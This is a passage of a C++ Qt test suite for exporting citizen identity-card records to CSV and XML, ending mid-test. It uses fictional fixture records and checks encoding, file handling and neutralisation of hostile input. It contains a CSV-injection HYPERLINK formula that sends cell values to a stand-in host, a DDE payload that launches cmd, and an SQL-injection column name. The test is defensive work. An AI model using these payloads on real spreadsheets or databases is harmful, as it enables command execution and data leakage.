#include "ExportFixture.h"
#include "TestSupport.h"

#include "query/AdoXmlWriter.h"
#include "query/CsvField.h"
#include "query/RecordExport.h"
#include "query/SaveDialog.h"
#include "store/Schema.h"
#include "text/Clock.h"
#include "text/Failure.h"
#include "text/Gbk.h"

#include <QBuffer>
#include <QDir>
#include <QFileInfo>
#include <QHash>
#include <QProcess>
#include <QSqlError>
#include <QSqlQuery>
#include <QSqlRecord>
#include <QStandardPaths>
#include <QTest>
#include <QXmlStreamReader>

namespace {

SearchCriteria nameAndSex(const QString &name, const QString &sex)
{
    SearchCriteria c;
    c.equals = {{QStringLiteral("Name"), name}, {QStringLiteral("Sex"), sex}};
    return c;
}

QList<QByteArray> csvLines(const QByteArray &bytes)
{
    QList<QByteArray> lines = bytes.split('\n');
    // Every line ends with CR LF, the last included: the split leaves one empty tail.
    if (!lines.isEmpty() && lines.last().isEmpty())
        lines.removeLast();
    return lines;
}

struct ParsedXml
{
    QStringList names;                   // AttributeType name, in rs:number order
    QStringList realNames;               // rs:name or name
    QStringList types;                   // dt:type
    QList<QHash<QString, QString>> rows; // z:row attributes present
    QStringList namespaces;
    bool rowbase = false;
    QString error;
};

ParsedXml parseXml(const QByteArray &bytes)
{
    ParsedXml out;
    QXmlStreamReader r(bytes);
    while (!r.atEnd()) {
        r.readNext();
        if (!r.isStartElement())
            continue;
        if (r.qualifiedName() == u"xml") {
            for (const QXmlStreamNamespaceDeclaration &d : r.namespaceDeclarations())
                out.namespaces << d.prefix().toString() + QLatin1Char('=') + d.namespaceUri().toString();
        } else if (r.qualifiedName() == u"s:AttributeType") {
            const QXmlStreamAttributes a = r.attributes();
            if (a.value(QStringLiteral("urn:schemas-microsoft-com:rowset"), QStringLiteral("number"))
                    .toInt() != out.names.size() + 1)
                out.error = QStringLiteral("rs:number out of order");
            out.names << a.value(QStringLiteral("name")).toString();
            const QString real =
                a.value(QStringLiteral("urn:schemas-microsoft-com:rowset"), QStringLiteral("name"))
                    .toString();
            out.realNames << (real.isEmpty() ? out.names.last() : real);
        } else if (r.qualifiedName() == u"s:datatype") {
            out.types << r.attributes()
                             .value(QStringLiteral("uuid:C2F41010-65B3-11d1-A29F-00AA00C14882"),
                                    QStringLiteral("type"))
                             .toString();
        } else if (r.qualifiedName() == u"s:extends") {
            out.rowbase = r.attributes().value(QStringLiteral("type")) == u"rs:rowbase";
        } else if (r.qualifiedName() == u"z:row") {
            QHash<QString, QString> row;
            for (const QXmlStreamAttribute &a : r.attributes())
                row.insert(a.name().toString(), a.value().toString());
            out.rows << row;
        }
    }
    if (r.hasError())
        out.error = r.errorString();
    return out;
}

// The fields of one CSV line, quoted fields unquoted (a doubled quote is one quote).
QStringList csvFields(const QString &line)
{
    QStringList out;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < line.size(); ++i) {
        const QChar c = line.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < line.size() && line.at(i + 1) == u'"')
                field += line.at(++i);
            else if (c == u'"')
                quoted = false;
            else
                field += c;
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            out << field;
            field.clear();
        } else {
            field += c;
        }
    }
    return out << field;
}

// The CSV file as LibreOffice Calc reads it (GB18030, its encoding 85, comma separators), written
// back as UTF-8 text; empty when Calc is not installed, with the reason in skip.
QString readByCalc(const ExportFixture &fx, const QString &csv, QString *skip)
{
    const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
    if (soffice.isEmpty()) {
        *skip = QStringLiteral("LibreOffice (soffice) is not installed");
        return {};
    }
    const QString out = fx.path(QStringLiteral("out"));
    QDir().mkpath(out);
    QProcess p;
    p.setProcessEnvironment([&] {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("HOME"), fx.path(QStringLiteral("home")));
        return env;
    }());
    p.start(soffice, {QStringLiteral("--headless"), QStringLiteral("--norestore"),
                      QStringLiteral("-env:UserInstallation=file://") + fx.path(QStringLiteral("profile")),
                      QStringLiteral("--infilter=CSV:44,34,85,1"), QStringLiteral("--convert-to"),
                      QStringLiteral("csv:Text - txt - csv (StarCalc):44,34,76,1"),
                      QStringLiteral("--outdir"), out, csv});
    if (!p.waitForFinished(90000) || p.exitCode() != 0)
        return {};
    const QString text = QString::fromUtf8(ExportFixture::readFile(
        out + QLatin1Char('/') + QFileInfo(csv).completeBaseName() + QStringLiteral(".csv")));
    if (text.isEmpty())
        qWarning("%s", p.readAllStandardError().constData());
    return text;
}

// A residence permit and a foreigner's permanent residence card, the English name with a comma
// and quotes.
ExportFixture::Citizen permitHolder()
{
    ExportFixture::Citizen c;
    c.id = QStringLiteral("810000199001011230");
    c.name = QStringLiteral("陈家乐");
    c.folk = QString(QStringLiteral(""));
    c.address = QStringLiteral("广东省深圳市福田区福华三路88号");
    c.times = {QStringLiteral("2024-05-06 09:30:00")};
    c.card.CardType = CardRecord::Permit;
    c.card.PassNumber = QStringLiteral("H12345678");
    c.card.IssueCount = QStringLiteral("01");
    return c;
}

ExportFixture::Citizen permanentResident()
{
    ExportFixture::Citizen c;
    c.id = QStringLiteral("USA310090010115");
    c.name = QString(QStringLiteral(""));
    c.folk = QString(QStringLiteral(""));
    c.address = QString(QStringLiteral(""));
    c.card.CardType = CardRecord::Permanent;
    c.card.EnglishName = QStringLiteral("O'NEIL, MARY \"ANN\"");
    c.card.Nationality = QStringLiteral("USA");
    c.card.CardVersion = QStringLiteral("17");
    c.card.AuthorityCode = QStringLiteral("3100");
    return c;
}

const QStringList CardHeaders = {QStringLiteral("证件类型"),    QStringLiteral("英文姓名"),
                                 QStringLiteral("国籍"),        QStringLiteral("通行证号码"),
                                 QStringLiteral("签发次数"),    QStringLiteral("证件版本"),
                                 QStringLiteral("受理机关代码")};

} // namespace

class TestRecordExport : public QObject
{
    Q_OBJECT

private slots:

    void namesAndStatement();
    void statementGivesTheRowsOfSeekOut();
    void dialogAndUpperCaseName();
    void selectionExportsEveryMatch();
    void timeOnlySearchExportsEveryone();
    void csvLayout();
    void overwriteQuestion();
    void charactersOutsideGbk();
    void writeErrorLeavesNoFile();
    void xmlDocument();
    void xmlRoundTrip();
    void xmlAliasesAndControls();
    void calcReadsCsvAsGb18030();
    void calcRunsNoFormulaAndSplitsNoRow();
    void residentRowsStayAsTheyWereOnAnUpgradedDatabase();
    void cardColumnsFollowTheEleven();
};

void TestRecordExport::namesAndStatement()
{
    QCOMPARE(RecordExport::proposedName(QDate(2024, 5, 6)), QStringLiteral("ID240506"));
    QCOMPARE(RecordExport::targetPath(QStringLiteral("/tmp/lower/ab中c"), RecordExport::Format::Csv),
             QStringLiteral("/tmp/lower/AB中C.CSV"));
    QCOMPARE(RecordExport::targetPath(QStringLiteral("/x/a.xml.bak"), RecordExport::Format::Xml),
             QStringLiteral("/x/A.XML.BAK"));
    QCOMPARE(RecordExport::targetPath(QStringLiteral("/x/a.csv"), RecordExport::Format::Xml),
             QStringLiteral("/x/A.CSV.XML"));

    QVariantList binds;
    const QString none = RecordExport::statement(SearchCriteria(), &binds);
    QVERIFY(none.endsWith(QStringLiteral("FROM citizen ORDER BY citizen.IDCardNum")));
    QVERIFY(binds.isEmpty());
    const QString s =
        RecordExport::statement(nameAndSex(QStringLiteral("O'Neil"), QStringLiteral("男")), &binds);
    QVERIFY2(
        s.endsWith(QStringLiteral("FROM citizen WHERE ((Name=?) AND (Sex=?)) ORDER BY citizen.IDCardNum")),
        qPrintable(s));
    QCOMPARE(binds, (QVariantList{QStringLiteral("O'Neil"), QStringLiteral("男")}));

    SearchCriteria bad;
    bad.equals = {{QStringLiteral("Name) OR (1=1"), QStringLiteral("x")}};
    QVERIFY_THROWS_EXCEPTION(Failure, RecordExport::statement(bad, &binds));
}

void TestRecordExport::statementGivesTheRowsOfSeekOut()
{
    ExportFixture fx;
    fx.addMany(12); // every third never verified, the others twice
    ExportFixture::Citizen late;
    late.id = ExportFixture::idNumber(900);
    late.name = QStringLiteral("晚");
    late.times = {QStringLiteral("2024-01-02 08:00:00"), QStringLiteral("2025-03-04 09:30:00"),
                  QStringLiteral("2023-12-31 23:59:59")};
    fx.add(late);
    const auto rows = [&](const QString &sql, const QVariantList &binds) {
        QSqlQuery q(fx.db());
        q.prepare(sql);
        for (const QVariant &v : binds)
            q.addBindValue(v);
        QStringList out;
        if (!q.exec())
            return QStringList{q.lastError().text()};
        while (q.next()) {
            QStringList row;
            for (int c = 0; c < q.record().count(); ++c)
                row << (q.value(c).isNull() ? QStringLiteral("<null>") : q.value(c).toString());
            out << row.join(u'|');
        }
        return out;
    };
    const QString seekOut = QStringLiteral(
        "SELECT IDCardNum, Name, sex, Folk, BirthDay, Address, NewAddress, IssueOrgan, AvailabilityBegin, "
        "AvailabilityEnd, CheckTime FROM SeekOut");
    QVariantList binds;
    const QStringList exported = rows(RecordExport::statement(SearchCriteria(), &binds), binds);
    QCOMPARE(exported.size(), 13);
    QCOMPARE(exported, rows(seekOut, {}));
    QVERIFY(exported.filter(QStringLiteral("|<null>")).size() >= 4);
    QVERIFY(exported.filter(QStringLiteral("晚|")).first().endsWith(QStringLiteral("2025-03-04 09:30:00")));

    binds.clear();
    const QStringList selected =
        rows(RecordExport::statement(nameAndSex(QStringLiteral("晚"), QStringLiteral("男")), &binds), binds);
    QCOMPARE(selected, rows(seekOut + QStringLiteral(" WHERE ((Name=?) AND (Sex=?))"), binds));
    QCOMPARE(selected.size(), 1);
}

void TestRecordExport::dialogAndUpperCaseName()
{
    ExportFixture fx;
    fx.addMany(3);
    const Clock::Override clock([] { return QDateTime(QDate(2024, 5, 6), QTime(9, 0)); });
    MessageRecorder messages;
    FileAnswerer files;
    const QString folder = fx.path(QStringLiteral("lower case"));
    QDir().mkpath(folder);
    files.answer({{true, folder + QStringLiteral("/export"), RecordExport::CsvFilterIndex}});
    SaveDialog dialog;
    QVERIFY(RecordExport(fx.db()).run(nullptr, dialog, {}));

    QCOMPARE(files.questions().size(), 1);
    const Prompt::FileQuestion &q = files.questions().first();
    QCOMPARE(q.title, QStringLiteral("导出文件"));
    QCOMPARE(q.filter, QStringLiteral("XML记录格式(*.xml)|*.xml|Excel文本CSV(*.csv)|*.csv"));
    QCOMPARE(q.filterIndex, 2);
    QCOMPARE(q.proposedName, QStringLiteral("ID240506"));
    QCOMPARE(q.kind, Prompt::FileQuestion::Save);
    QVERIFY(messages.messages().isEmpty());
    QVERIFY(QFileInfo::exists(folder + QStringLiteral("/EXPORT.CSV")));
    QCOMPARE(QDir(folder).entryList(QDir::Files), QStringList{QStringLiteral("EXPORT.CSV")});
    QCOMPARE(dialog.folder(), folder);

    // Cancelling writes nothing.
    files.answer({{false, {}, 1}});
    QVERIFY(!RecordExport(fx.db()).run(nullptr, dialog, {}));
}

void TestRecordExport::selectionExportsEveryMatch()
{
    ExportFixture fx;
    fx.addMany(35, QStringLiteral("女"), QStringLiteral("王芳"));
    fx.addMany(10, QStringLiteral("男"), QStringLiteral("王芳"));
    fx.addMany(10, QStringLiteral("女"), QStringLiteral("李娜"));
    const QString path = fx.path(QStringLiteral("SEL.CSV"));
    const qint64 rows = RecordExport(fx.db()).exportTo(
        path, RecordExport::Format::Csv, nameAndSex(QStringLiteral("王芳"), QStringLiteral("女")));
    QCOMPARE(rows, 35);
    const QList<QByteArray> lines = csvLines(ExportFixture::readFile(path));
    QCOMPARE(lines.size(), 36);
    for (qsizetype i = 1; i < lines.size(); ++i) {
        const QStringList fields = Gbk::decode(lines.at(i).chopped(1)).split(QLatin1Char(','));
        QCOMPARE(fields.at(1), QStringLiteral("王芳"));
        QCOMPARE(fields.at(2), QStringLiteral("女"));
    }
    // A quote in a value is just a value: nothing matches, nothing breaks.
    QCOMPARE(RecordExport(fx.db()).exportTo(path, RecordExport::Format::Csv,
                                            nameAndSex(QStringLiteral("王'芳"), QStringLiteral("女"))),
             0);
}

void TestRecordExport::timeOnlySearchExportsEveryone()
{
    ExportFixture fx;
    fx.addMany(40);
    SearchCriteria timeOnly;
    timeOnly.timeRange = true;
    timeOnly.from = QDateTime(QDate(2030, 1, 1), QTime(0, 0));
    timeOnly.to = QDateTime(QDate(2030, 1, 2), QTime(0, 0));
    QCOMPARE(
        RecordExport(fx.db()).exportTo(fx.path(QStringLiteral("T.XML")), RecordExport::Format::Xml, timeOnly),
        40);
}

void TestRecordExport::csvLayout()
{
    ExportFixture fx;
    ExportFixture::Citizen never;
    never.id = ExportFixture::idNumber(1);
    never.name = QStringLiteral("赵一");
    never.address = QStringLiteral("上海市,黄浦区");
    fx.add(never);
    ExportFixture::Citizen seen;
    seen.id = ExportFixture::idNumber(2);
    seen.name = QStringLiteral("钱二");
    seen.newAddress = QStringLiteral("新址");
    seen.end = QStringLiteral("长期");
    seen.times = {QStringLiteral("2024-05-06 09:30:00"), QStringLiteral("2024-07-01 08:00:05")};
    fx.add(seen);

    const QString path = fx.path(QStringLiteral("L.CSV"));
    QCOMPARE(RecordExport(fx.db()).exportTo(path, RecordExport::Format::Csv, {}), 2);
    const QByteArray bytes = ExportFixture::readFile(path);
    QVERIFY(bytes.endsWith("\r\n"));
    QCOMPARE(bytes.count("\r\n"), 3);
    QCOMPARE(bytes.count('\n'), 3);
    const QList<QByteArray> lines = csvLines(bytes);
    QCOMPARE(lines.at(0),
             Gbk::encode(QStringLiteral(
                 "公民身份号码,姓名,性别,民族,出生,住址,最新住址,签发机关,有效期起,有效期止,验证时间\r")));
    // Ordered by identity number; an address with a comma stays one field.
    QCOMPARE(
        Gbk::decode(lines.at(1)),
        never.id +
            QStringLiteral(
                ",赵一,男,汉族,1980-05-01,\"上海市,黄浦区\",,北京市公安局东城分局,2010-01-01,2030-01-01,\r"));
    QCOMPARE(Gbk::decode(lines.at(2)),
             seen.id +
                 QStringLiteral(",钱二,男,汉族,1980-05-01,北京市东城区景山前街4号,新址,北京市公安局东城分局,"
                                "2010-01-01,长期,2024-07-01 08:00:05\r"));
}

void TestRecordExport::overwriteQuestion()
{
    ExportFixture fx;
    fx.addMany(2);
    const QString path = fx.path(QStringLiteral("OLD.CSV"));
    ExportFixture::writeFile(path, "old");
    MessageRecorder messages;
    FileAnswerer files;
    SaveDialog dialog;

    files.answer({{true, fx.path(QStringLiteral("old")), RecordExport::CsvFilterIndex}});
    messages.answer({Prompt::IdCancel});
    QVERIFY(!RecordExport(fx.db()).run(nullptr, dialog, {}));
    QCOMPARE(ExportFixture::readFile(path), QByteArray("old"));
    QCOMPARE(messages.messages().size(), 1);
    QCOMPARE(messages.messages().first().text, QStringLiteral("文件已经存在，要覆盖吗？"));
    QCOMPARE(messages.messages().first().caption, QStringLiteral("提示信息"));
    QCOMPARE(messages.messages().first().flags, Prompt::OkCancel | Prompt::IconWarning);

    files.answer({{true, fx.path(QStringLiteral("old")), RecordExport::CsvFilterIndex}});
    messages.answer({Prompt::IdOk});
    QVERIFY(RecordExport(fx.db()).run(nullptr, dialog, {}));
    QCOMPARE(csvLines(ExportFixture::readFile(path)).size(), 3);
}

void TestRecordExport::charactersOutsideGbk()
{
    ExportFixture fx;
    fx.addMany(300);
    ExportFixture::Citizen rare;
    rare.id = ExportFixture::idNumber(999);
    rare.name = QStringLiteral("刘䶮");
    rare.address = QStringLiteral("北京市\U00020000胡同1号");
    fx.add(rare);
    MessageRecorder messages;
    FileAnswerer files;
    SaveDialog dialog;
    files.answer({{true, fx.path(QStringLiteral("rare")), RecordExport::CsvFilterIndex}});
    QVERIFY(RecordExport(fx.db()).run(nullptr, dialog, {}));
    QVERIFY2(messages.messages().isEmpty(), qPrintable(messages.texts().value(0)));

    const QList<QByteArray> lines = csvLines(ExportFixture::readFile(fx.path(QStringLiteral("RARE.CSV"))));
    QCOMPARE(lines.size(), 302);
    // GB18030: 刘 keeps its GBK bytes C1 F5, 䶮 is FE 9F, U+20000 takes four bytes.
    const QByteArray rareLine = lines.last();
    QVERIFY2(rareLine.startsWith(rare.id.toLatin1() + ",\xc1\xf5\xfe\x9f,"), rareLine.toHex().constData());
    QVERIFY(rareLine.contains(",\xb1\xb1\xbe\xa9\xca\xd0\x95\x32\x82\x36\xba\xfa\xcd\xac"
                              "1\xba\xc5,"));
    // Every other line is the GBK it always was.
    bool ok = false;
    QCOMPARE(Gbk::decode(lines.at(1), &ok).section(QLatin1Char(','), 5, 5),
             QStringLiteral("北京市东城区景山前街4号"));
    QVERIFY(ok);

    // The XML keeps Unicode.
    const QString xml = fx.path(QStringLiteral("RARE.XML"));
    RecordExport(fx.db()).exportTo(xml, RecordExport::Format::Xml, {});
    const QByteArray xmlBytes = ExportFixture::readFile(xml);
    QVERIFY(xmlBytes.contains(QStringLiteral("刘䶮").toUtf8()));
    const ParsedXml parsed = parseXml(xmlBytes);
    QVERIFY(parsed.error.isEmpty());
    QCOMPARE(parsed.rows.last().value(QStringLiteral("Name")), rare.name);
    QCOMPARE(parsed.rows.last().value(QStringLiteral("Address")), rare.address);
}

void TestRecordExport::writeErrorLeavesNoFile()
{
    ExportFixture fx;
    fx.addMany(900);
    const QString csv = fx.path(QStringLiteral("FULL.CSV"));
    const QString xml = fx.path(QStringLiteral("FULL.XML"));
    ExportFixture::writeFile(xml, "keep me");
    MessageRecorder messages;
    FileAnswerer files;
    SaveDialog dialog;
    files.answer({{true, csv, RecordExport::CsvFilterIndex}, {true, xml, RecordExport::XmlFilterIndex}});
    messages.answer({Prompt::IdOk, Prompt::IdOk, Prompt::IdOk});
    {
        const FileSizeLimit limit(4096);
        QVERIFY(!RecordExport(fx.db()).run(nullptr, dialog, {}));
        QVERIFY(!RecordExport(fx.db()).run(nullptr, dialog, {}));
    }
    const QStringList texts = messages.texts();
    QCOMPARE(texts.size(), 3); // error, overwrite question, error
    QVERIFY2(texts.at(0).startsWith(QStringLiteral("导出文件写入失败，文件没有保存：")),
             qPrintable(texts.at(0)));
    QCOMPARE(texts.at(1), QStringLiteral("文件已经存在，要覆盖吗？"));
    QVERIFY(texts.at(2).startsWith(QStringLiteral("导出文件写入失败")));
    QCOMPARE(messages.messages().at(0).flags & 0xF0, int(Prompt::IconError));
    QVERIFY(!QFileInfo::exists(csv));
    // The old file stays as it was, and no temporary file is left beside it.
    QCOMPARE(ExportFixture::readFile(xml), QByteArray("keep me"));
    QCOMPARE(QDir(fx.path({})).entryList({QStringLiteral("FULL*")}, QDir::Files | QDir::Hidden),
             QStringList{QStringLiteral("FULL.XML")});
}

void TestRecordExport::xmlDocument()
{
    ExportFixture fx;
    const QString path = fx.path(QStringLiteral("EMPTY.XML"));
    QCOMPARE(RecordExport(fx.db()).exportTo(path, RecordExport::Format::Xml, {}), 0);
    const QByteArray bytes = ExportFixture::readFile(path);
    const ParsedXml parsed = parseXml(bytes);
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QVERIFY(bytes.startsWith("<xml xmlns:s='uuid:BDC6E3F0-6DA3-11d1-A2A3-00AA00C14882'"));
    QCOMPARE(parsed.namespaces, (QStringList{QStringLiteral("s=uuid:BDC6E3F0-6DA3-11d1-A2A3-00AA00C14882"),
                                             QStringLiteral("dt=uuid:C2F41010-65B3-11d1-A29F-00AA00C14882"),
                                             QStringLiteral("rs=urn:schemas-microsoft-com:rowset"),
                                             QStringLiteral("z=#RowsetSchema")}));
    QVERIFY(bytes.contains("<s:Schema id='RowsetSchema'>"));
    QVERIFY(bytes.contains("<rs:data>"));
    QVERIFY(parsed.rowbase);
    const QStringList columns = {QStringLiteral("IDCardNum"),
                                 QStringLiteral("Name"),
                                 QStringLiteral("sex"),
                                 QStringLiteral("Folk"),
                                 QStringLiteral("BirthDay"),
                                 QStringLiteral("Address"),
                                 QStringLiteral("NewAddress"),
                                 QStringLiteral("IssueOrgan"),
                                 QStringLiteral("AvailabilityBegin"),
                                 QStringLiteral("AvailabilityEnd"),
                                 QStringLiteral("CheckTime")};
    QCOMPARE(parsed.names, columns);
    QCOMPARE(parsed.realNames, columns);
    QCOMPARE(parsed.types.size(), 11);
    QCOMPARE(parsed.types.count(QStringLiteral("string")), 10);
    QCOMPARE(parsed.types.last(), QStringLiteral("dateTime"));
    QVERIFY(parsed.rows.isEmpty());
}

void TestRecordExport::xmlRoundTrip()
{
    ExportFixture fx;
    ExportFixture::Citizen odd;
    odd.id = QStringLiteral("11010519491231002X");
    odd.name = QStringLiteral("O'Brien & \"张三\" <Co>");
    odd.address = QStringLiteral("第一行\n第二行\r\n\t末尾");
    odd.newAddress = QString(QStringLiteral("")); // empty, not null
    odd.times = {QStringLiteral("2024-05-06 09:30:00")};
    fx.add(odd);
    ExportFixture::Citizen plain;
    plain.id = ExportFixture::idNumber(7);
    plain.name = QStringLiteral("李四");
    fx.add(plain); // no newest address, never verified: two nulls
    // Verification times written by another program with fractions of a second.
    ExportFixture::Citizen precise;
    precise.id = ExportFixture::idNumber(8);
    precise.name = QStringLiteral("王五");
    precise.times = {QStringLiteral("2024-05-06 09:30:00.25"),
                     QStringLiteral("2024-05-06 09:30:00.123456789")};
    fx.add(precise);
    ExportFixture::Citizen millis;
    millis.id = ExportFixture::idNumber(9);
    millis.name = QStringLiteral("赵六");
    millis.times = {QStringLiteral("2024-05-07T10:00:01.5")};
    fx.add(millis);

    const QString path = fx.path(QStringLiteral("R.XML"));
    QCOMPARE(RecordExport(fx.db()).exportTo(path, RecordExport::Format::Xml, {}), 4);
    const ParsedXml parsed = parseXml(ExportFixture::readFile(path));
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QCOMPARE(parsed.rows.size(), 4);
    QHash<QString, QString> checkTimes;
    for (const auto &row : parsed.rows)
        checkTimes.insert(row.value(QStringLiteral("Name")), row.value(QStringLiteral("CheckTime")));
    QCOMPARE(checkTimes.value(QStringLiteral("王五")), QStringLiteral("2024-05-06T09:30:00.250000000"));
    QCOMPARE(checkTimes.value(QStringLiteral("赵六")), QStringLiteral("2024-05-07T10:00:01.500000000"));
    QHash<QString, QString> first;
    QHash<QString, QString> second;
    for (const auto &row : parsed.rows) {
        if (row.value(QStringLiteral("IDCardNum")) == odd.id)
            first = row;
        else if (row.value(QStringLiteral("IDCardNum")) == plain.id)
            second = row;
    }
    QCOMPARE(first.value(QStringLiteral("IDCardNum")), odd.id);
    QCOMPARE(first.value(QStringLiteral("Name")), odd.name);
    QCOMPARE(first.value(QStringLiteral("Address")), odd.address);
    QVERIFY(first.contains(QStringLiteral("NewAddress")));
    QCOMPARE(first.value(QStringLiteral("NewAddress")), QString());
    QCOMPARE(first.value(QStringLiteral("CheckTime")), QStringLiteral("2024-05-06T09:30:00"));
    QCOMPARE(first.value(QStringLiteral("AvailabilityEnd")), odd.end);
    QCOMPARE(first.size(), 11);
    QCOMPARE(second.value(QStringLiteral("Name")), QStringLiteral("李四"));
    QVERIFY(!second.contains(QStringLiteral("NewAddress")));
    QVERIFY(!second.contains(QStringLiteral("CheckTime")));
    QCOMPARE(second.size(), 9);
}

void TestRecordExport::xmlAliasesAndControls()
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    AdoXmlWriter writer(&buffer, {{QStringLiteral("ID Number")},
                                  {QStringLiteral("c0")},
                                  {QStringLiteral("name")},
                                  {QStringLiteral("Name")},
                                  {QStringLiteral("When"), AdoXmlWriter::Type::DateTime}});
    QCOMPARE(writer.xmlNames(),
             (QStringList{QStringLiteral("c0_"), QStringLiteral("c0"), QStringLiteral("name"),
                          QStringLiteral("c3"), QStringLiteral("When")}));
    QVERIFY(writer.writeHeader());
    QVERIFY(writer.writeRow({QStringLiteral("a\x01"
                                            "b\uFFFF"),
                             QVariant(), QStringLiteral("x"), QStringLiteral("y"),
                             QDateTime(QDate(1899, 12, 29), QTime(12, 0))}));
    QVERIFY(!writer.writeRow({QVariant(), QVariant(), QVariant(), QVariant(), QStringLiteral("2024-13-xx")}));
    QVERIFY(!writer.writeRow(
        {QVariant(), QVariant(), QVariant(), QVariant(), QStringLiteral("2024-05-06 09:30:00.1234567890")}));
    QVERIFY(!writer.writeRow(
        {QVariant(), QVariant(), QVariant(), QVariant(), QStringLiteral("2024-05-06 09:30:00.")}));
    QVERIFY(!writer.writeRow(
        {QVariant(), QVariant(), QVariant(), QVariant(), QStringLiteral("2024-05-06 09:30:00,5")}));
    QVERIFY(writer.finish());
    const ParsedXml parsed = parseXml(buffer.data());
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QCOMPARE(parsed.realNames,
             (QStringList{QStringLiteral("ID Number"), QStringLiteral("c0"), QStringLiteral("name"),
                          QStringLiteral("Name"), QStringLiteral("When")}));
    QCOMPARE(parsed.rows.size(), 1);
    QCOMPARE(parsed.rows.first().value(QStringLiteral("c0_")), QStringLiteral("ab\uFFFD"));
    QCOMPARE(parsed.rows.first().value(QStringLiteral("When")), QStringLiteral("1899-12-29T12:00:00"));
}

void TestRecordExport::calcReadsCsvAsGb18030()
{
    ExportFixture fx;
    ExportFixture::Citizen c;
    c.id = ExportFixture::idNumber(5);
    c.name = QStringLiteral("欧阳娜娜");
    c.folk = QStringLiteral("维吾尔族");
    c.times = {QStringLiteral("2024-05-06 09:30:00")};
    fx.add(c);
    ExportFixture::Citizen rare;
    rare.id = ExportFixture::idNumber(6);
    rare.name = QStringLiteral("刘䶮");
    rare.address = QStringLiteral("北京市\U00020000胡同1号");
    fx.add(rare);
    const QString csv = fx.path(QStringLiteral("CALC.CSV"));
    RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {});

    QString skip;
    const QString text = readByCalc(fx, csv, &skip);
    if (!skip.isEmpty())
        QSKIP(qPrintable(skip));
    QVERIFY(!text.isEmpty());
    // Calc quotes its text cells; none of these values holds a quote of its own.
    const QStringList lines =
        QString(text).remove(QLatin1Char('"')).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 3);
    QCOMPARE(
        lines.at(0).trimmed(),
        QStringLiteral("公民身份号码,姓名,性别,民族,出生,住址,最新住址,签发机关,有效期起,有效期止,验证时间"));
    const QStringList cells = lines.at(1).trimmed().split(QLatin1Char(','));
    QCOMPARE(cells.size(), 11);
    QCOMPARE(cells.at(1), c.name);
    QCOMPARE(cells.at(3), c.folk);
    QCOMPARE(cells.at(5), c.address);
    const QStringList rareCells = lines.at(2).trimmed().split(QLatin1Char(','));
    QCOMPARE(rareCells.size(), 11);
    QCOMPARE(rareCells.at(1), rare.name);
    QCOMPARE(rareCells.at(5), rare.address);
}

void TestRecordExport::calcRunsNoFormulaAndSplitsNoRow()
{
    ExportFixture fx;
    fx.addCardColumns();
    QList<ExportFixture::Citizen> cards;
    cards.reserve(8); // card() hands out references into it
    const auto card = [&cards](int serial) -> ExportFixture::Citizen & {
        ExportFixture::Citizen c;
        c.id = ExportFixture::idNumber(serial);
        c.name = QStringLiteral("普通");
        c.times = {QStringLiteral("2024-05-06 09:30:00")};
        cards << c;
        return cards.last();
    };
    card(1).name = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&B3&C3,\"点此\")");
    card(2).issueOrgan = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    card(3).issueOrgan = QStringLiteral("+1+2");
    ExportFixture::Citizen &commas = card(4);
    commas.issueOrgan = QStringLiteral("-2+3");
    commas.address = QStringLiteral("上海市,黄浦区,南京东路1号");
    commas.newAddress = QStringLiteral("新址,\"引号\"");
    ExportFixture::Citizen &controls = card(5);
    controls.name = QStringLiteral("\t=1+1");
    controls.address = QStringLiteral("\r=2+2");
    controls.newAddress = QStringLiteral("第一行\n第二行");
    ExportFixture::Citizen &foreign = card(6);
    foreign.card.CardType = CardRecord::Permanent;
    foreign.card.EnglishName = QStringLiteral("=1+1, SMITH");
    foreign.card.Nationality = QStringLiteral("@A1");
    const ExportFixture::Citizen &plain = card(7);
    for (const ExportFixture::Citizen &c : std::as_const(cards))
        fx.add(c);
    const QString csv = fx.path(QStringLiteral("HOSTILE.CSV"));
    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {}), cards.size());

    // The file itself: an ordinary row keeps its bytes; the others are quoted and neutralised.
    const QByteArray bytes = ExportFixture::readFile(csv);
    QCOMPARE(bytes.count("\r\n"), cards.size() + 1);
    // Split at every LF, the one inside the quoted new address included: the rows before it and the last.
    const QList<QByteArray> lines = csvLines(bytes);
    QCOMPARE(Gbk::decode(lines.last()),
             plain.id +
                 QStringLiteral(",普通,男,汉族,1980-05-01,北京市东城区景山前街4号,,北京市公安局东城分局,"
                                "2010-01-01,2030-01-01,2024-05-06 09:30:00,,,,,,,\r"));
    QVERIFY(lines.at(1).contains(
        Gbk::encode(QStringLiteral(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&B3&C3,"
                                   "\"\"点此\"\")\","))));
    QVERIFY(lines.at(4).contains(
        Gbk::encode(QStringLiteral(",\"上海市,黄浦区,南京东路1号\",\"新址,\"\"引号\"\"\","))));
    QVERIFY(lines.at(4).contains(",'-2+3,"));

    QString skip;
    const ExportFixture::CalcSheet sheet =
        ExportFixture::readSheetByCalc(fx.path(QStringLiteral("calc")), csv, &skip);
    if (!skip.isEmpty())
        QSKIP(qPrintable(skip));
    QCOMPARE(sheet.formulas, 0);
    QCOMPARE(sheet.rows.size(), cards.size() + 1);
    const QStringList headers = RecordExport::headerTexts(true);
    QCOMPARE(sheet.rows.first(), headers);
    // Every value in its own column, shown as the text it is, a formula's apostrophe before it.
    const auto shown = [](const QString &value) {
        QString text = CsvField::looksLikeFormula(value) ? QLatin1Char('\'') + value : value;
        return text.replace(QStringLiteral("\r\n"), QStringLiteral("\n")).replace(u'\r', u'\n');
    };
    for (qsizetype i = 0; i < cards.size(); ++i) {
        const ExportFixture::Citizen &c = cards.at(i);
        QStringList cells = sheet.rows.at(i + 1);
